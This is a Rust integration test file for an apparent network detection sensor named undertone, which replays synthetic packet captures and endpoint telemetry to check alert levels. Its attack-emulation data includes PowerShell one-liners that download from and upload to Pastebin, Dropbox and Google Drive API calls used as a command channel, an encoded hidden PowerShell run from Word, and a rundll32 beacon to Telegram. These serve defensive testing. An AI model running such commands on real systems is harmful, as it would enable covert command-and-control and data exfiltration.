//! The whole sensor on cases with a known truth: packets and endpoint telemetry in, levels out.

#![allow(clippy::unwrap_used, clippy::panic, reason = "a test that cannot go on says so")]

#[path = "truth/cases.rs"]
mod cases;
mod common;

use std::collections::BTreeMap;
use std::path::Path;

use common::binary::{dataset, undertone};
use common::scene::{Endpoint, NOON, Program, Scene};
use serde_json::Value;
use undertone::rules::Level;

fn workstation() -> Endpoint {
    Endpoint { name: "ws5.corp.example".to_owned(), ip: [10, 0, 0, 7] }
}

/// What a replay of a capture with a feed tells.
fn replay(folder: &Path, capture: &[u8], feed: &str) -> Vec<Value> {
    let (pcap, records) = (folder.join("input.pcap"), folder.join("feed"));
    std::fs::write(&pcap, capture).unwrap();
    std::fs::write(&records, feed).unwrap();
    let path = |path: &Path| path.to_str().unwrap().to_owned();
    let args =
        ["replay", "--json", "--min-level", "informational", "-q", "--feed", &path(&records), &path(&pcap)];
    undertone(&args).ended(0).records()
}

fn level(record: &Value) -> Level {
    let word = record["undertone"]["level"].as_str().unwrap();
    Level::ALL.into_iter().find(|level| level.as_str() == word).unwrap()
}

/// The highest level of each process's alerts.
fn levels(records: &[Value]) -> BTreeMap<u64, Level> {
    let mut levels = BTreeMap::new();
    for record in records.iter().filter(|record| dataset(record) == "undertone.alert") {
        match record["process"]["pid"].as_u64() {
            Some(pid) => {
                let known = levels.entry(pid).or_insert(Level::Informational);
                *known = (*known).max(level(record));
            }
            None => assert!(level(record) <= Level::Low, "nobody is named, and yet: {record}"),
        }
    }
    levels
}

/// Each case a process of its own, a minute apart lest one ask for what the next one reaches, by packets and what a feed writes of them.
fn check(table: &str, wanted: impl Fn(&cases::Case) -> bool, count: usize, feed: impl Fn(&Scene) -> String) {
    let all: Vec<_> = cases::read(table).into_iter().filter(wanted).collect();
    assert_eq!(all.len(), count);
    let mut scene = Scene::default();
    for (number, case) in all.iter().enumerate() {
        let at = (NOON + 60 * number as i64) as f64;
        let program = Program {
            pid: 4000 + 4 * number as u32,
            started: at - case.age as f64,
            image: case.executable.clone(),
            line: case.command_line.clone(),
            parent: case.parent.clone(),
            built_as: case.built_as.clone(),
        };
        scene.starts(&workstation(), &program);
        scene.reaches(at, &workstation(), &program, &case.hostname, [198, 51, 100, number as u8 + 1], None);
    }
    let folder = tempfile::tempdir().unwrap();
    let records = replay(folder.path(), &scene.pcap(), &feed(&scene));
    let levels = levels(&records);
    let mut wrong = Vec::new();
    for (number, case) in all.iter().enumerate() {
        let found = levels.get(&(4000 + 4 * number as u64)).copied();
        if !case.want.is(found) {
            wrong.push(format!("{} {}: {found:?}", case.id, case.why));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

fn of_macos(case: &cases::Case) -> bool {
    ["/Applications/", "/System/", "/Users/"].iter().any(|folder| case.executable.starts_with(folder))
        || case.why.starts_with("macOS")
}

/// 29 of 29 that are wanted, none of 10 that are not, the one in between low.
#[test]
fn the_published_table_by_packets_and_sysmon() {
    check(cases::PUBLISHED, |_| true, 40, Scene::sysmon_xml);
}

/// Our own; Sysmon does not run on macOS.
#[test]
fn our_own_table_by_packets_and_sysmon() {
    check(cases::OWN, |case| !of_macos(case), 37, Scene::sysmon_xml);
    check(cases::FURTHER, |case| !of_macos(case), 225, Scene::sysmon_xml);
    check(cases::OTHER_HAND, |case| !of_macos(case), 102, Scene::sysmon_xml);
}

/// Those of macOS by the telemetry of Elastic Defend.
#[test]
fn our_own_table_by_packets_and_elastic_defend() {
    check(cases::OWN, of_macos, 5, Scene::elastic_defend);
    check(cases::FURTHER, of_macos, 23, Scene::elastic_defend);
    check(cases::OTHER_HAND, of_macos, 8, Scene::elastic_defend);
}

/// Where telemetry knows the names of files alone.
#[test]
fn our_table_of_names_alone_by_packets_and_sysmon() {
    check(cases::NAMED, |_| true, 77, Scene::sysmon_xml);
}

/// A pid that a browser had, and a shell has three minutes later: each contact is its own process's.
#[test]
fn a_pid_that_came_back_is_two_processes() {
    let chrome = r"C:\Program Files\Google\Chrome\Application\chrome.exe";
    let shell = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
    let program = |image: &str, after: i64| Program {
        pid: 4242,
        started: (NOON + after) as f64,
        image: image.to_owned(),
        line: image.to_owned(),
        parent: r"C:\Windows\explorer.exe".to_owned(),
        ..Program::default()
    };
    let mut scene = Scene::default();
    for (image, after, server) in [(chrome, 0, 1), (shell, 180, 2), (chrome, 400, 3)] {
        let program = program(image, after);
        scene.starts(&workstation(), &program);
        scene.reaches(
            (NOON + after + 5) as f64,
            &workstation(),
            &program,
            "pastebin.com",
            [198, 51, 100, server],
            None,
        );
    }
    let folder = tempfile::tempdir().unwrap();
    let records = replay(folder.path(), &scene.pcap(), &scene.sysmon_xml());
    let alerts = records.iter().filter(|record| dataset(record) == "undertone.alert");
    let found: Vec<_> =
        alerts.map(|alert| (alert["process"]["name"].as_str().unwrap(), level(alert))).collect();
    assert_eq!(
        found,
        [
            ("chrome.exe", Level::Informational),
            ("powershell.exe", Level::Medium),
            ("chrome.exe", Level::Informational)
        ]
    );
}

/// A beacon of 10,000 contacts is one alert and one summary, and nothing is lost in the counts: connections after one question; questions
/// and connections in turn, as without a cache; and as many by a process that no telemetry names.
#[test]
fn a_beacon_is_one_alert_and_one_summary() {
    // The first contact is a question and a connection.
    beacon(
        |scene, program, at| scene.connects(at, &workstation(), program, BEACON, SERVER, None),
        9_998,
        9_999,
        true,
    );
    beacon(
        |scene, program, at| scene.reaches(at, &workstation(), program, BEACON, SERVER, None),
        4_999,
        5_000,
        true,
    );
    beacon(
        |scene, program, at| scene.connects(at, &workstation(), program, BEACON, SERVER, None),
        9_998,
        9_999,
        false,
    );
    beacon(
        |scene, program, at| scene.reaches(at, &workstation(), program, BEACON, SERVER, None),
        4_999,
        5_000,
        false,
    );
}

const BEACON: &str = "api.telegram.org";
const SERVER: [u8; 4] = [198, 51, 100, 1];

fn beacon(again: impl Fn(&mut Scene, &Program, f64), times: u32, connections: u32, with_feed: bool) {
    let program = Program {
        pid: 4242,
        started: NOON as f64,
        image: r"C:\Windows\System32\rundll32.exe".to_owned(),
        line: "rundll32.exe a.dll,#1".to_owned(),
        parent: r"C:\Windows\explorer.exe".to_owned(),
        ..Program::default()
    };
    let mut scene = Scene::default();
    scene.starts(&workstation(), &program);
    scene.reaches((NOON + 10) as f64, &workstation(), &program, BEACON, SERVER, None);
    for turn in 1..=times {
        let at = (NOON + 10) as f64 + f64::from(turn) * 3_400.0 / f64::from(times);
        again(&mut scene, &program, at);
    }
    let folder = tempfile::tempdir().unwrap();
    // Else it tells that the process began, and nothing of what it did.
    let mut began = Scene::default();
    began.starts(&workstation(), &program);
    let feed = if with_feed { scene.sysmon_xml() } else { began.sysmon_xml() };
    let records = replay(folder.path(), &scene.pcap(), &feed);
    let of = |name: &str| records.iter().filter(|record| dataset(record) == name).collect::<Vec<_>>();
    let (alerts, summaries) = (of("undertone.alert"), of("undertone.summary"));
    assert_eq!((alerts.len(), summaries.len()), (1, 1), "{times} {with_feed}");
    assert_eq!(summaries[0]["undertone"]["summary"]["count"], 10_000);
    assert_eq!(summaries[0]["undertone"]["summary"]["connections"], connections);
    assert_eq!(summaries[0]["undertone"]["summary"]["alert"], alerts[0]["event"]["id"]);
    let expected =
        if with_feed { (Level::High, "rundll32.exe".into()) } else { (Level::Medium, Value::Null) };
    assert_eq!((level(alerts[0]), summaries[0]["process"]["name"].clone()), expected);
    assert_eq!(level(alerts[0]), level(summaries[0]));
}

/// A test of the published detections: what it is called, what it does, who does it, and the names that are reached in turn.
struct Atomic {
    folder: &'static str,
    about: &'static str,
    /// Starts beside the one that connects.
    beside: &'static [(&'static str, &'static str, &'static str)],
    image: &'static str,
    line: &'static str,
    parent: &'static str,
    names: &'static [&'static str],
}

const SHELL: &str = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";

const ATOMIC: [Atomic; 4] = [
    Atomic {
        folder: "atomic-dropbox",
        about: "Dropbox as a command channel, by its API from PowerShell: a question and a connection for api.dropboxapi.com, then for content.dropboxapi.com.",
        beside: &[],
        image: SHELL,
        line: "powershell.exe -WindowStyle Hidden -Command \"Invoke-RestMethod -Uri https://api.dropboxapi.com/2/files/list_folder -Method Post -Headers @{Authorization='Bearer x'}; Invoke-RestMethod -Uri https://content.dropboxapi.com/2/files/download -Headers @{Authorization='Bearer x'}\"",
        parent: r"C:\Windows\System32\cmd.exe",
        names: &["api.dropboxapi.com", "content.dropboxapi.com"],
    },
    Atomic {
        folder: "atomic-pastebin",
        about: "Pastebin, read and written by PowerShell: two connections to pastebin.com.",
        beside: &[],
        image: SHELL,
        line: "powershell.exe -ExecutionPolicy Bypass -Command \"$c = New-Object Net.WebClient; $c.DownloadString('https://pastebin.com/raw/x'); $c.UploadString('https://pastebin.com/api/api_post.php', 'y')\"",
        parent: r"C:\Windows\System32\cmd.exe",
        names: &["pastebin.com", "pastebin.com"],
    },
    Atomic {
        folder: "atomic-onedrive",
        about: "OneDrive as a network drive: cmd.exe runs net use, the connection to d.docs.live.net is the WebClient service's, and powershell.exe reads and writes files on the drive.",
        beside: &[
            (
                r"C:\Windows\System32\cmd.exe",
                r"cmd.exe /c net use Z: https://d.docs.live.net/1a2b3c4d /user:a@example.com x",
                r"C:\Windows\explorer.exe",
            ),
            (
                SHELL,
                r"powershell.exe -Command Get-Content Z:\in.txt | Out-File Z:\out.txt",
                r"C:\Windows\System32\cmd.exe",
            ),
        ],
        image: r"C:\Windows\System32\svchost.exe",
        line: r"C:\Windows\System32\svchost.exe -k LocalService -p -s WebClient",
        parent: r"C:\Windows\System32\services.exe",
        names: &["d.docs.live.net"],
    },
    Atomic {
        folder: "atomic-googledrive",
        about: "Google Drive, read by Python: two connections to www.googleapis.com.",
        beside: &[],
        image: r"C:\Python311\python.exe",
        line: "python.exe -c \"import urllib.request as u; print(u.urlopen('https://www.googleapis.com/drive/v3/files?q=x').read()); print(u.urlopen('https://www.googleapis.com/drive/v3/files/1?alt=media').read())\"",
        parent: r"C:\Windows\System32\cmd.exe",
        names: &["www.googleapis.com", "www.googleapis.com"],
    },
];

impl Atomic {
    fn scene(&self) -> Scene {
        let mut scene = Scene::default();
        let program = |pid, after: f64, (image, line, parent): (&str, &str, &str)| Program {
            pid,
            started: NOON as f64 + after,
            image: image.to_owned(),
            line: line.to_owned(),
            parent: parent.to_owned(),
            ..Program::default()
        };
        for (number, beside) in self.beside.iter().enumerate() {
            scene.starts(&workstation(), &program(5000 + number as u32, number as f64, *beside));
        }
        let connects = program(4242, 0.5, (self.image, self.line, self.parent));
        scene.starts(&workstation(), &connects);
        for (number, name) in self.names.iter().enumerate() {
            let server = [198, 51, 100, number as u8 + 1];
            scene.reaches(NOON as f64 + 2.0 + number as f64, &workstation(), &connects, name, server, None);
        }
        scene
    }

    /// What stands in the case's folder.
    fn files(&self) -> Vec<(&'static str, Vec<u8>)> {
        let scene = self.scene();
        let mut rows = BTreeMap::<(u8, &str, &str), usize>::new();
        for name in self.names {
            *rows.entry((0, name, "dns_query")).or_default() += 1;
            *rows.entry((1, name, "tls_sni")).or_default() += 1;
        }
        let row = |((_, name, way), count): (&(u8, &str, &str), &usize)| {
            let how = if *way == "dns_query" { "A" } else { "port 443" };
            let times = if *count > 1 { format!(" ×{count}") } else { String::new() };
            format!("| {name} | 10.0.0.7 | {way} | {how}{times} | yes |\n")
        };
        let readme = format!(
            "# {}\n\n{}\n\nEverything in it is synthetic: the packets (questions without answers, a small ClientHello, addresses of RFC 5737) and the \
             records of ws5.corp.example, 10.0.0.7, that stand beside them. They tell the same story in three dialects: `sysmon.xml` (Windows Event XML, \
             one event a line), `winlogbeat.jsonl` (winlogbeat 7 without its module) and `defender.jsonl` (Microsoft Defender's streaming records, which \
             have no DNS). A sensor names the process, its command line and its parent, at level medium or higher, by each of them.\n\n\
             Made by `UNDERTONE_BLESS=1 cargo test --test judged atomic`.\n\n## What is in it\n\n\
             | name | client | seen as | how | contact |\n|---|---|---|---|---|\n{}",
            self.folder,
            self.about,
            rows.iter().map(row).collect::<String>()
        );
        vec![
            ("input.pcap", scene.pcap()),
            ("sysmon.xml", scene.sysmon_xml().into_bytes()),
            ("winlogbeat.jsonl", scene.winlogbeat().into_bytes()),
            ("defender.jsonl", scene.defender().into_bytes()),
            ("README.md", readme.into_bytes()),
        ]
    }
}

/// Each is found by each feed, with process, command line and parent. `UNDERTONE_BLESS=1` writes the cases anew.
#[test]
fn atomic_tests_are_found_by_each_feed() {
    let bless = std::env::var_os("UNDERTONE_BLESS").is_some_and(|value| value == "1");
    let mut found = 0;
    for atomic in ATOMIC {
        let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("pcaps").join(atomic.folder);
        for (name, bytes) in atomic.files() {
            if bless {
                std::fs::create_dir_all(&folder).unwrap();
                std::fs::write(folder.join(name), &bytes).unwrap();
            }
            assert!(
                std::fs::read(folder.join(name)).unwrap() == bytes,
                "{}/{name} is another",
                atomic.folder
            );
        }
        for feed in ["sysmon.xml", "winlogbeat.jsonl", "defender.jsonl"] {
            let path = |name: &str| folder.join(name).display().to_string();
            let args = [
                "replay",
                "--json",
                "--min-level",
                "medium",
                "-q",
                "--feed",
                &path(feed),
                &path("input.pcap"),
            ];
            let records = undertone(&args).ended(0).records();
            let alerts: Vec<_> =
                records.iter().filter(|record| dataset(record) == "undertone.alert").collect();
            // Without telemetry of DNS, a question is whose command line has the name: net use, for which WebClient connects.
            let (own, others): (Vec<_>, Vec<_>) =
                alerts.into_iter().partition(|alert| alert["process"]["command_line"] == atomic.line);
            assert!(!own.is_empty(), "{} by {feed} is not found: {others:?}", atomic.folder);
            for alert in others {
                let line = &alert["process"]["command_line"];
                assert!(
                    atomic.beside.iter().any(|(_, beside, _)| line == beside),
                    "{} by {feed}: {alert}",
                    atomic.folder
                );
            }
            for alert in own {
                let process = &alert["process"];
                assert_eq!(process["executable"], atomic.image, "{} by {feed}", atomic.folder);
                let parent = atomic.parent.rsplit('\\').next().unwrap();
                assert_eq!(process["parent"]["name"], parent, "{} by {feed}: {process}", atomic.folder);
                assert_eq!(process["pid"], 4242);
                assert_eq!(alert["host"]["name"], "ws5.corp.example");
                assert!(atomic.names.contains(&alert["undertone"]["hostname"]["name"].as_str().unwrap()));
            }
            found += 1;
        }
    }
    assert_eq!(found, 12, "four tests by three feeds");
}

/// A day of an office: 40 workstations with browsers, sync clients, chats, Office, git, pip, npm, Windows' own, by records as their feeds
/// write them, 5,200 contacts from eight to six; and five attacks among them.
#[test]
fn an_office_day_has_exactly_its_five_attacks() {
    const ORDINARY: [(&str, &str, &str, &[&str]); 13] = [
        (
            r"C:\Program Files\Google\Chrome\Application\chrome.exe",
            "chrome.exe",
            r"C:\Windows\explorer.exe",
            &[
                "www.dropbox.com",
                "docs.google.com",
                "github.com",
                "x.com",
                "pastebin.com",
                "discord.com",
                "www.notion.so",
                "api.openai.com",
            ],
        ),
        (
            r"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe",
            "msedge.exe",
            r"C:\Windows\explorer.exe",
            &[
                "contoso.sharepoint.com",
                "onedrive.live.com",
                "www.youtube.com",
                "trello.com",
                "graph.microsoft.com",
            ],
        ),
        (
            r"C:\Program Files\Mozilla Firefox\firefox.exe",
            "firefox.exe",
            r"C:\Windows\explorer.exe",
            &["raw.githubusercontent.com", "web.telegram.org", "drive.google.com", "old.reddit.com"],
        ),
        (
            r"C:\Users\a\AppData\Local\Microsoft\OneDrive\OneDrive.exe",
            "OneDrive.exe /background",
            r"C:\Windows\explorer.exe",
            &["onedrive.live.com", "api.onedrive.com", "graph.microsoft.com"],
        ),
        (
            r"C:\Program Files (x86)\Dropbox\Client\Dropbox.exe",
            "Dropbox.exe /systemstartup",
            r"C:\Windows\explorer.exe",
            &["api.dropboxapi.com", "notify.dropboxapi.com", "content.dropboxapi.com"],
        ),
        (
            r"C:\Users\a\AppData\Local\slack\app-4.41.105\slack.exe",
            "slack.exe",
            r"C:\Windows\explorer.exe",
            &["wss-primary.slack.com", "contoso.slack.com"],
        ),
        (
            r"C:\Program Files\WindowsApps\MSTeams_24.1_x64__8wekyb3d8bbwe\ms-teams.exe",
            "ms-teams.exe",
            r"C:\Windows\explorer.exe",
            &["graph.microsoft.com", "contoso.sharepoint.com"],
        ),
        (
            r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE",
            "OUTLOOK.EXE",
            r"C:\Windows\explorer.exe",
            &["graph.microsoft.com", "contoso-my.sharepoint.com", "i.imgur.com"],
        ),
        (
            r"C:\Program Files\Git\mingw64\libexec\git-core\git-remote-https.exe",
            "git-remote-https origin https://github.com/a/b",
            r"C:\Program Files\Git\mingw64\bin\git.exe",
            &["github.com"],
        ),
        (
            r"C:\Python311\python.exe",
            "python.exe -m pip install -r requirements.txt",
            r"C:\Windows\System32\cmd.exe",
            &["files.pythonhosted.org"],
        ),
        (
            r"C:\Program Files\nodejs\node.exe",
            r#""C:\Program Files\nodejs\node.exe" "C:\Program Files\nodejs\node_modules\npm\bin\npm-cli.js" ci"#,
            r"C:\Windows\System32\cmd.exe",
            &["registry.npmjs.org"],
        ),
        (
            r"C:\Windows\System32\svchost.exe",
            "svchost.exe -k netsvcs -p -s wuauserv",
            r"C:\Windows\System32\services.exe",
            &["tsfe.blob.core.windows.net"],
        ),
        (
            r"C:\Users\a\AppData\Local\Programs\Microsoft VS Code\Code.exe",
            "Code.exe",
            r"C:\Windows\explorer.exe",
            &["api.github.com", "raw.githubusercontent.com"],
        ),
    ];
    const ATTACKS: [(&str, &str, &str, &str); 5] = [
        (
            SHELL,
            "powershell.exe -w hidden -enc SQBFAFgA",
            r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
            "graph.microsoft.com",
        ),
        (r"C:\Users\a\AppData\Local\Temp\chrome.exe", "chrome.exe", r"C:\Windows\explorer.exe", "t.me"),
        (
            r"C:\Windows\System32\rundll32.exe",
            r"rundll32.exe C:\ProgramData\a.dll,Start",
            r"C:\Windows\explorer.exe",
            "api.telegram.org",
        ),
        (
            r"C:\ProgramData\xapt.exe",
            r"C:\ProgramData\xapt.exe",
            r"C:\Windows\System32\services.exe",
            "sheets.googleapis.com",
        ),
        (
            r"C:\Windows\System32\svchost.exe",
            r"C:\Windows\System32\svchost.exe -k netsvcs -p -s BITS",
            r"C:\Windows\System32\services.exe",
            "cdn.discordapp.com",
        ),
    ];
    let on =
        |number: usize| Endpoint { name: format!("ws{number}.corp.example"), ip: [10, 0, 1, number as u8] };
    let program = |pid, started: f64, image: &str, line: &str, parent: &str| Program {
        pid,
        started,
        image: image.to_owned(),
        line: line.to_owned(),
        parent: parent.to_owned(),
        ..Program::default()
    };
    let mut scene = Scene::default();
    let morning = NOON as f64 - 4.0 * 3600.0;
    for host in 1..=40 {
        for (kind, (image, line, parent, names)) in ORDINARY.iter().enumerate() {
            let program = program(1000 + 4 * kind as u32, morning + host as f64, image, line, parent);
            scene.starts(&on(host), &program);
            for turn in 0..5 {
                let at = morning + 60.0 + turn as f64 * 7000.0 + host as f64 * 40.0 + kind as f64 * 3.0;
                let server = [198, 51, 100, kind as u8 + 1];
                scene.reaches(at, &on(host), &program, names[turn % names.len()], server, None);
            }
        }
    }
    for (number, (image, line, parent, name)) in ATTACKS.iter().enumerate() {
        let at = NOON as f64 + number as f64 * 1000.5;
        let program = program(7000 + 4 * number as u32, at - 2.0, image, line, parent);
        scene.starts(&on(5 + number), &program);
        scene.reaches(at, &on(5 + number), &program, name, [198, 51, 100, 200 + number as u8], None);
    }
    let folder = tempfile::tempdir().unwrap();
    let records = replay(folder.path(), &scene.pcap(), &scene.sysmon_xml());
    let summaries = records.iter().filter(|record| dataset(record) == "undertone.summary");
    let contacts: u64 =
        summaries.map(|summary| summary["undertone"]["summary"]["count"].as_u64().unwrap()).sum();
    assert!(contacts >= 5_000, "{contacts} contacts");
    let grave: Vec<(String, u64)> = records
        .iter()
        .filter(|record| dataset(record) == "undertone.alert" && level(record) >= Level::Medium)
        .map(|record| {
            (
                record["undertone"]["hostname"]["name"].as_str().unwrap().to_owned(),
                record["process"]["pid"].as_u64().unwrap_or(0),
            )
        })
        .collect();
    let mut expected: Vec<(String, u64)> = ATTACKS
        .iter()
        .enumerate()
        .map(|(number, attack)| (attack.3.to_owned(), 7000 + 4 * number as u64))
        .collect();
    let mut grave = grave;
    grave.sort();
    expected.sort();
    assert_eq!(grave, expected);
}
